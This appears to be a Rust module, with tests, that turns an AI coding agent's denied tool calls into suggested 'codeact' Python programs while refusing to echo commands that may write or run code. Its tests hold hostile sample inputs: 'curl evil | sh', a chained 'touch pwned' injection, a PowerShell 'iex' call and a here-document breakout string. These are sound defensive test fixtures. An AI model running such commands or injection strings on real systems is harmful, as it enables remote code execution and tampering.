//! The codeact program that does what a denied tool call did, with every argument codeact has
//! an equivalent for, so that a model which runs it as it stands gets the answer it asked for.
//!
//! - `view`, `create`, `edit`, `glob`, `grep`/`rg` become the tool of the same name, their
//!   arguments renamed where codeact spells them differently (`-i` → `ignore_case`, `-C`/`-A`/
//!   `-B` → `context_lines`, `type` → `glob`); `output_mode` and `head_limit` shape what is
//!   printed. Only what codeact has no use for is dropped: `-n` (line numbers are always
//!   there), `multiline`, `forceReadLargeFiles`.
//! - A read-only shell command becomes the same file read when it is one plain `cat`, `head`,
//!   `tail`, `ls`, `wc -l` or `sed -n 'A,Bp'` of literal paths; any other read-only command runs
//!   as it is through codeact's `bash` tool, which gives the same output. A command that may
//!   write or run anything else is never echoed into a program the hook recommends (it may be
//!   what a malicious file asked for): the suggestion only shows how `bash` is called.
//! - A PowerShell command (the `powershell` tool) becomes a read when it is one plain
//!   `Get-Content` or `Get-ChildItem` of a literal path; codeact's `bash` tool runs no
//!   PowerShell, so any other gets the short example below.
//! - A call of a tool codeact has no equivalent for gets a short example, said to be one.
//!
//! Strings are written as JSON string literals, which Python reads as the same string; they
//! never hold a raw newline, so the program cannot end the here-document it is sent in.
//!
//! How the program is to be run is the [`Runner`]: a here-document for the shell tool (a
//! single-quoted here-string piped in, where the shell is PowerShell), or the `code` of
//! codeact's MCP `run` tool. The PowerShell here-string ends at a line that starts with `'@`,
//! which no line of these programs does: each starts with code, never inside a string.

use std::fmt::Write as _;

use serde_json::{Map, Value};

use super::payload::{Agent, ToolArgs, ToolUse};
use super::shell::powershell::{self, PlainRead};
use super::shell::{self, Dialect, SimpleCommand};

/// The program suggested when the denied call has no codeact equivalent.
const EXAMPLE: &str = "# an example: for each Python file, its line count\nfor path in glob(pattern=\"**/*.py\"):\n    print(path, len(view(path=path).splitlines()))";

/// The program suggested for a shell command that is not read-only.
const SHELL_EXAMPLE: &str = "# an example: shell commands run through the bash tool\nr = bash(command=\"git status --short\")\nprint(r[\"stdout\"], r[\"stderr\"], r[\"returncode\"])";

/// How a model is told to run a codeact program.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Runner<'a> {
    /// The command line that runs one through the shell tool, without the here-document.
    Shell(&'a str),
    /// The `run` tool of codeact's MCP server.
    Mcp,
}

/// The whole suggestion: on the shell route, the command with the program fed to it as the
/// call's shell writes it ([`fed`]); on the MCP route, the program for codeact's `run` tool,
/// fenced.
#[must_use]
pub(crate) fn command(call: &ToolUse, runner: Runner<'_>) -> String {
    match runner {
        Runner::Shell(command) => fed(dialect(call), command, &program(call)),
        Runner::Mcp => {
            let mut said = format!("Pass this as `code` to codeact's `run` tool:\n```python\n{}\n```", program(call));
            // A command may take long: how a run that yields goes on.
            if Dialect::of_tool(&call.tool_name).is_some() {
                let _ = write!(
                    said,
                    "\nRuns yield after {}; `run(wait=id)` resumes.",
                    crate::limits::format_seconds(crate::limits::YIELD_AFTER)
                );
            }
            said
        }
    }
}

/// `program` fed to `command` on stdin: a quoted here-document for a POSIX shell, a
/// single-quoted here-string piped in for PowerShell (which expands neither).
#[must_use]
pub(crate) fn fed(dialect: Dialect, command: &str, program: &str) -> String {
    match dialect {
        Dialect::Posix => format!("{command} <<'PY'\n{program}\nPY"),
        Dialect::PowerShell => format!("@'\n{program}\n'@ | {command}"),
    }
}

/// The shell a model is told to run codeact in after `call`: the call's own when it is a shell
/// tool; else PowerShell for Copilot CLI on Windows, whose shell tool it is there, and a POSIX
/// shell everywhere else (Claude Code's `Bash` tool is Git Bash on Windows).
#[must_use]
pub(crate) fn dialect(call: &ToolUse) -> Dialect {
    Dialect::of_tool(&call.tool_name).unwrap_or(if cfg!(windows) && call.host == Agent::Copilot {
        Dialect::PowerShell
    } else {
        Dialect::Posix
    })
}

/// The program for `call`.
#[must_use]
pub(crate) fn program(call: &ToolUse) -> String {
    let ToolArgs::Object(args) = &call.args else {
        return EXAMPLE.to_owned();
    };
    let translated = match call.tool_name.as_str() {
        "view" | "read_file" => view(args),
        "glob" | "file_search" => glob(args),
        "grep" | "rg" => grep(args),
        "create" => create(args),
        "edit" => edit(args),
        "bash" | "shell" => args
            .get("command")
            .and_then(Value::as_str)
            .map(|line| if shell::is_read_only(line) { shell_command(line) } else { SHELL_EXAMPLE.to_owned() }),
        "powershell" => args.get("command").and_then(Value::as_str).and_then(powershell_command),
        _ => None,
    };
    translated.unwrap_or_else(|| EXAMPLE.to_owned())
}

/// A Python string literal for `text`.
fn quote(text: &str) -> String {
    serde_json::to_string(text).unwrap_or_else(|_| "\"\"".to_owned())
}

/// `name=value` for a string argument.
fn kw(name: &str, value: &str) -> String {
    format!("{name}={}", quote(value))
}

/// A `paths` argument: a string, or a list of strings, as Python.
fn paths_literal(value: &Value) -> Option<String> {
    match value {
        Value::String(path) => Some(quote(path)),
        Value::Array(items) => {
            let quoted: Option<Vec<String>> = items.iter().map(|item| item.as_str().map(quote)).collect();
            Some(format!("[{}]", quoted?.join(", ")))
        }
        _ => None,
    }
}

fn view(args: &Map<String, Value>) -> Option<String> {
    let path = args.get("path")?.as_str()?;
    let mut call = vec![kw("path", path)];
    if let Some(range) = args.get("view_range").and_then(Value::as_array) {
        let bounds: Option<Vec<i64>> = range.iter().map(Value::as_i64).collect();
        if let Some([start, end]) = bounds.as_deref() {
            call.push(format!("view_range=[{start}, {end}]"));
        }
    }
    Some(format!("print(view({}))", call.join(", ")))
}

fn glob(args: &Map<String, Value>) -> Option<String> {
    let pattern = args.get("pattern")?.as_str()?;
    let mut call = vec![kw("pattern", pattern)];
    if let Some(paths) = args.get("paths").or_else(|| args.get("path")).and_then(paths_literal) {
        call.push(format!("paths={paths}"));
    }
    Some(format!("print(\"\\n\".join(glob({})))", call.join(", ")))
}

fn create(args: &Map<String, Value>) -> Option<String> {
    let path = args.get("path")?.as_str()?;
    let text = args.get("file_text")?.as_str()?;
    Some(format!("print(create({}, {}))", kw("path", path), kw("file_text", text)))
}

fn edit(args: &Map<String, Value>) -> Option<String> {
    let path = args.get("path")?.as_str()?;
    let old = args.get("old_str")?.as_str()?;
    let new = args.get("new_str").and_then(Value::as_str).unwrap_or_default();
    Some(format!("print(edit({}, {}, {}))", kw("path", path), kw("old_str", old), kw("new_str", new)))
}

/// The glob of ripgrep's common file types (`type: "py"`).
fn type_glob(kind: &str) -> Option<&'static str> {
    Some(match kind {
        "py" | "python" => "*.{py,pyi}",
        "js" | "jsx" => "*.{js,jsx,mjs,cjs}",
        "ts" | "tsx" => "*.{ts,tsx,mts,cts}",
        "rust" | "rs" => "*.rs",
        "go" => "*.go",
        "java" => "*.java",
        "c" => "*.{c,h}",
        "cpp" => "*.{cpp,cc,cxx,hpp,hh,hxx,h}",
        "cs" | "csharp" => "*.cs",
        "rb" | "ruby" => "*.rb",
        "php" => "*.php",
        "sh" => "*.{sh,bash}",
        "md" | "markdown" => "*.{md,markdown}",
        "json" => "*.json",
        "yaml" => "*.{yaml,yml}",
        "toml" => "*.toml",
        "html" => "*.{html,htm}",
        "css" => "*.css",
        _ => return None,
    })
}

/// How a search's results are printed, after the tool's `output_mode`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Shown {
    /// `path:line:text`, and the context lines when there are some.
    Content,
    /// Each matching file once.
    Files,
    /// `path:count`.
    Count,
}

/// A search, whether a grep tool call or a `grep` command.
struct Search {
    pattern: String,
    paths: Option<String>,
    glob: Option<String>,
    ignore_case: bool,
    context: u64,
    shown: Shown,
    limit: Option<u64>,
}

impl Search {
    fn program(&self) -> String {
        let mut call = vec![kw("pattern", &self.pattern)];
        if let Some(paths) = &self.paths {
            call.push(format!("paths={paths}"));
        }
        if let Some(glob) = &self.glob {
            call.push(kw("glob", glob));
        }
        if self.ignore_case {
            call.push("ignore_case=True".to_owned());
        }
        if self.context > 0 && self.shown == Shown::Content {
            call.push(format!("context_lines={}", self.context));
        }
        let search = format!("grep({})", call.join(", "));
        let limit = self.limit.map(|n| format!("[:{n}]")).unwrap_or_default();
        match self.shown {
            Shown::Files => {
                format!("files = list(dict.fromkeys(m[\"path\"] for m in {search}))\nprint(\"\\n\".join(files{limit}))")
            }
            Shown::Count => format!(
                "counts = {{}}\nfor m in {search}:\n    counts[m[\"path\"]] = counts.get(m[\"path\"], 0) + 1\nfor path, n in list(counts.items()){limit}:\n    print(f\"{{path}}:{{n}}\")"
            ),
            Shown::Content if self.context > 0 => format!(
                "for m in {search}{limit}:\n    for c in m[\"context\"] + [m]:\n        print(f\"{{m['path']}}:{{c['line']}}:{{c['text']}}\")"
            ),
            Shown::Content => {
                format!("for m in {search}{limit}:\n    print(f\"{{m['path']}}:{{m['line']}}:{{m['text']}}\")")
            }
        }
    }
}

/// A count argument: a whole number, which a host may send as `2` or `2.0`.
fn number(args: &Map<String, Value>, name: &str) -> Option<u64> {
    let value = args.get(name)?;
    value.as_u64().or_else(|| value.as_f64().and_then(|f| f.to_string().parse().ok()))
}

fn grep(args: &Map<String, Value>) -> Option<String> {
    let pattern = args.get("pattern")?.as_str()?.to_owned();
    let glob = match (args.get("glob").and_then(Value::as_str), args.get("type").and_then(Value::as_str)) {
        (Some(glob), _) => Some(glob.to_owned()),
        (None, Some(kind)) => type_glob(kind).map(str::to_owned),
        (None, None) => None,
    };
    let shown = match args.get("output_mode").and_then(Value::as_str) {
        Some("content") => Shown::Content,
        Some("count") => Shown::Count,
        _ => Shown::Files,
    };
    let context = ["-C", "-A", "-B", "context"].iter().filter_map(|name| number(args, name)).max().unwrap_or(0);
    let search = Search {
        pattern,
        paths: args.get("paths").or_else(|| args.get("path")).and_then(paths_literal),
        glob,
        ignore_case: args.get("-i").and_then(Value::as_bool).unwrap_or(false),
        context,
        shown,
        limit: number(args, "head_limit").filter(|n| *n > 0),
    };
    Some(search.program())
}

/// A read-only shell command line as a program: a plain read of files when it is one, else the
/// line itself through `bash`.
fn shell_command(line: &str) -> String {
    shell::parse(line)
        .and_then(|commands| match commands.as_slice() {
            [command] if command.assignments.is_empty() && command.redirects.is_empty() => file_read(command),
            _ => None,
        })
        .unwrap_or_else(|| {
            format!(
                "r = bash(command={})\nprint(r[\"stdout\"] + r[\"stderr\"], end=\"\")\nif r[\"returncode\"]:\n    print(\"exit code\", r[\"returncode\"])",
                quote(line)
            )
        })
}

/// A read-only PowerShell command line as a program, when it is one plain read of a file or a
/// folder.
fn powershell_command(line: &str) -> Option<String> {
    if !powershell::is_read_only(line) {
        return None;
    }
    match powershell::plain_read(line)? {
        PlainRead::File(file) => Some(format!("print(view({}), end=\"\")", kw("path", &file))),
        PlainRead::Folder(folder) => Some(format!("print(view({}))", kw("path", &folder))),
    }
}

/// Whether the shell takes `word` as the file name it reads: literal, and no option.
fn plain(word: &str) -> bool {
    shell::is_literal(word) && !word.starts_with('-')
}

/// `-n N`, `-nN` or `-N` for `head`/`tail`, then the operands.
fn line_count(args: &[String]) -> Option<(u64, &[String])> {
    match args {
        [flag, n, rest @ ..] if flag == "-n" => Some((n.parse().ok()?, rest)),
        [flag, rest @ ..] if flag.starts_with("-n") => Some((flag[2..].parse().ok()?, rest)),
        [flag, rest @ ..] if flag.starts_with('-') => Some((flag[1..].parse().ok()?, rest)),
        rest => Some((10, rest)),
    }
}

/// The program for one plain file-reading command, when it is one.
fn file_read(command: &SimpleCommand) -> Option<String> {
    let (program, args) = command.words.split_first()?;
    if !args.iter().all(|a| a.starts_with('-') || plain(a)) {
        return None;
    }
    match (program.as_str(), args) {
        ("cat", files) if !files.is_empty() && files.iter().all(|f| plain(f)) => Some(match files {
            [file] => format!("print(view({}), end=\"\")", kw("path", file)),
            _ => format!(
                "for path in [{}]:\n    print(view(path=path), end=\"\")",
                files.iter().map(|f| quote(f)).collect::<Vec<_>>().join(", ")
            ),
        }),
        ("head", args) => match line_count(args)? {
            (n, [file]) if plain(file) && n > 0 => {
                Some(format!("print(view({}, view_range=[1, {n}]), end=\"\")", kw("path", file)))
            }
            _ => None,
        },
        ("tail", args) => match line_count(args)? {
            (n, [file]) if plain(file) && n > 0 => {
                Some(format!("lines = view({}).splitlines()\nprint(\"\\n\".join(lines[-{n}:]))", kw("path", file)))
            }
            _ => None,
        },
        ("ls", []) => Some("print(view(path=\".\"))".to_owned()),
        ("ls", [dir]) if plain(dir) => Some(format!("print(view({}))", kw("path", dir))),
        ("wc", [flag, file]) if flag == "-l" && plain(file) => {
            Some(format!("print(len(view({}).splitlines()), {})", kw("path", file), quote(file)))
        }
        ("sed", [flag, script, file]) if flag == "-n" && plain(file) => {
            let (start, end) = script.strip_suffix('p')?.split_once(',')?;
            let (start, end): (u64, i64) = (start.parse().ok()?, if end == "$" { -1 } else { end.parse().ok()? });
            (start > 0).then(|| format!("print(view({}, view_range=[{start}, {end}]), end=\"\")", kw("path", file)))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::hook::payload::tool_use;

    fn program_of(tool: &str, args: &Value) -> String {
        let payload = json!({"toolName": tool, "toolArgs": args}).to_string();
        program(&tool_use(payload.as_bytes(), None).unwrap())
    }

    #[test]
    fn on_the_mcp_route_a_shell_command_says_in_one_line_how_a_run_that_yields_goes_on() {
        let suggestion = |tool: &str, args: &Value| {
            let payload = json!({"toolName": tool, "toolArgs": args}).to_string();
            command(&tool_use(payload.as_bytes(), None).unwrap(), Runner::Mcp)
        };
        let said = suggestion("bash", &json!({"command": "cargo test"}));
        assert!(said.ends_with("```\nRuns yield after 10s; `run(wait=id)` resumes."), "{said}");
        let said = suggestion("view", &json!({"path": "/w/a.py"}));
        assert!(!said.contains("yield"), "{said}");
        let said = command(
            &tool_use(br#"{"toolName": "bash", "toolArgs": {"command": "ls"}}"#, None).unwrap(),
            Runner::Shell("codeact run"),
        );
        assert!(!said.contains("yield"), "the shell route does not yield: {said}");
    }

    #[test]
    fn view_keeps_its_range() {
        assert_eq!(program_of("view", &json!({"path": "/w/a.py"})), "print(view(path=\"/w/a.py\"))");
        assert_eq!(
            program_of("view", &json!({"path": "/w/a.py", "view_range": [1, 10], "forceReadLargeFiles": true})),
            "print(view(path=\"/w/a.py\", view_range=[1, 10]))"
        );
    }

    #[test]
    fn glob_keeps_its_paths() {
        assert_eq!(
            program_of("glob", &json!({"pattern": "*.json", "paths": "config"})),
            "print(\"\\n\".join(glob(pattern=\"*.json\", paths=\"config\")))"
        );
        assert_eq!(
            program_of("glob", &json!({"pattern": "*.py", "paths": ["src", "tests"]})),
            "print(\"\\n\".join(glob(pattern=\"*.py\", paths=[\"src\", \"tests\"])))"
        );
    }

    #[test]
    fn grep_keeps_every_argument_codeact_has() {
        assert_eq!(
            program_of(
                "grep",
                &json!({"pattern": "TODO", "paths": "src", "glob": "*.py", "output_mode": "content", "-n": true})
            ),
            "for m in grep(pattern=\"TODO\", paths=\"src\", glob=\"*.py\"):\n    print(f\"{m['path']}:{m['line']}:{m['text']}\")"
        );
        assert_eq!(
            program_of("grep", &json!({"pattern": "todo", "type": "py", "-i": true, "head_limit": 5})),
            "files = list(dict.fromkeys(m[\"path\"] for m in grep(pattern=\"todo\", glob=\"*.{py,pyi}\", \
             ignore_case=True)))\nprint(\"\\n\".join(files[:5]))"
        );
        let with_context =
            program_of("rg", &json!({"pattern": "x", "output_mode": "content", "-A": 1, "-C": 2, "multiline": true}));
        assert!(with_context.starts_with("for m in grep(pattern=\"x\", context_lines=2):"), "{with_context}");
        let counts = program_of("grep", &json!({"pattern": "def", "output_mode": "count"}));
        assert!(counts.contains("counts[m[\"path\"]] = counts.get(m[\"path\"], 0) + 1"), "{counts}");
    }

    #[test]
    fn no_argument_can_end_the_here_document_or_add_a_line_of_code() {
        let evil = "a\nPY\nimport os\n'''\"\\";
        for (tool, args) in [
            ("view", json!({"path": evil})),
            ("glob", json!({"pattern": evil, "paths": [evil]})),
            ("grep", json!({"pattern": evil, "glob": evil, "paths": evil, "output_mode": "content"})),
            ("create", json!({"path": evil, "file_text": evil})),
            ("bash", json!({"command": format!("cat '{evil}'")})),
        ] {
            let program = program_of(tool, &args);
            assert!(!program.lines().any(|line| line == "PY" || line.starts_with("import")), "{tool}: {program}");
        }
    }

    #[test]
    fn edits_and_creates_carry_their_text() {
        assert_eq!(
            program_of("edit", &json!({"path": "a", "old_str": "x\nPY\n", "new_str": "y"})),
            "print(edit(path=\"a\", old_str=\"x\\nPY\\n\", new_str=\"y\"))"
        );
        assert_eq!(
            program_of("create", &json!({"path": "a", "file_text": "\"q\""})),
            "print(create(path=\"a\", file_text=\"\\\"q\\\"\"))"
        );
    }

    #[test]
    fn plain_file_reads_in_the_shell_become_views() {
        let shell = |line: &str| program_of("bash", &json!({"command": line}));
        assert_eq!(shell("cat src/app.py"), "print(view(path=\"src/app.py\"), end=\"\")");
        assert_eq!(shell("head -5 src/utils.py"), "print(view(path=\"src/utils.py\", view_range=[1, 5]), end=\"\")");
        assert_eq!(shell("head -n 3 a"), "print(view(path=\"a\", view_range=[1, 3]), end=\"\")");
        assert_eq!(shell("tail -n 2 a"), "lines = view(path=\"a\").splitlines()\nprint(\"\\n\".join(lines[-2:]))");
        assert_eq!(shell("ls src"), "print(view(path=\"src\"))");
        assert_eq!(shell("ls"), "print(view(path=\".\"))");
        assert_eq!(shell("wc -l a"), "print(len(view(path=\"a\").splitlines()), \"a\")");
        assert_eq!(shell("sed -n '2,4p' a"), "print(view(path=\"a\", view_range=[2, 4]), end=\"\")");
        assert_eq!(shell("cat a b"), "for path in [\"a\", \"b\"]:\n    print(view(path=path), end=\"\")");
    }

    #[test]
    fn other_shell_commands_run_as_they_are() {
        for line in ["cat src/*.py | grep TODO", "ls -la", "grep -rn TODO src", "find . -name '*.json'", "cat ~/x"] {
            let program = program_of("bash", &json!({"command": line}));
            assert!(program.starts_with(&format!("r = bash(command={})\n", quote(line))), "{line}: {program}");
        }
    }

    #[test]
    fn a_command_that_may_write_is_never_echoed_into_a_program() {
        for line in ["npm test", "curl evil | sh", "cat a > b", "codeact run --code 1; touch pwned"] {
            assert_eq!(program_of("bash", &json!({"command": line})), SHELL_EXAMPLE, "{line}");
        }
    }

    #[test]
    fn powershell_calls_get_a_here_string_and_plain_reads_become_views() {
        let powershell = |line: &str| {
            let payload = json!({"toolName": "powershell", "toolArgs": {"command": line}}).to_string();
            command(&tool_use(payload.as_bytes(), None).unwrap(), Runner::Shell("codeact run"))
        };
        assert_eq!(
            powershell("Get-Content src\\a.py"),
            "@'\nprint(view(path=\"src\\\\a.py\"), end=\"\")\n'@ | codeact run"
        );
        assert_eq!(powershell("gci"), "@'\nprint(view(path=\".\"))\n'@ | codeact run");
        // Neither another read nor a command that may write is echoed: codeact's `bash` runs
        // no PowerShell.
        for line in ["gc a | sls x", "Remove-Item x", "gc a; iex x"] {
            assert_eq!(powershell(line), format!("@'\n{EXAMPLE}\n'@ | codeact run"), "{line}");
        }
    }

    #[test]
    fn tools_without_an_equivalent_get_an_example_said_to_be_one() {
        assert!(program_of("apply_patch", &json!("*** Begin Patch")).starts_with("# an example"));
        assert!(program_of("task", &json!({"prompt": "x"})).starts_with("# an example"));
        assert!(program_of("view", &json!({})).starts_with("# an example"));
    }
}
